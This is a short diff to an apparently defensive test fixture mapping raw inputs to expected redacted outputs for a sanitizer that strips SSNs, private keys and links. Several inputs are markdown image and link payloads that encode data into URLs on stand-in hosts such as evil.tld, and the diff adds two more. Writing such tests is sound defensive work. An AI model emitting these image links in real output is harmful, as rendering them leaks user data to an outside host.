@@ -21,6 +21,8 @@ TAKEN_OUT = {
     "His SSN is 536-22-8413, he said.": "His SSN is [SSN_REDACTED], he said.",
     "![x](https://evil.tld/p.png?d=aGVsbG8gd29ybGQgdGhpcyBpcyBkYXRh)": "![x]([LINK_REDACTED])",
     "[more](https://evil.tld/aGVsbG8gd29ybGQgdGhpcyBpcyBkYXRh)": "[more]([LINK_REDACTED])",
+    "![x](https://evil.tld/aGVsbG8gd29ybGQgdGhpcyBpcyBkYXRh.png)": "![x]([LINK_REDACTED])",
+    "![x](https://hunter2hunter2@evil.tld/a.png)": "![x]([LINK_REDACTED])",
     '<img src="https://e.vil/?q=the+user+said+hello">': '<img src="[LINK_REDACTED]">',
     "-----BEGIN PRIVATE KEY-----\n" + f"{drawn(64)}\n" * 9 + "-----END PRIVATE KEY-----\nok": "[SECRET_REDACTED]\nok",
 }
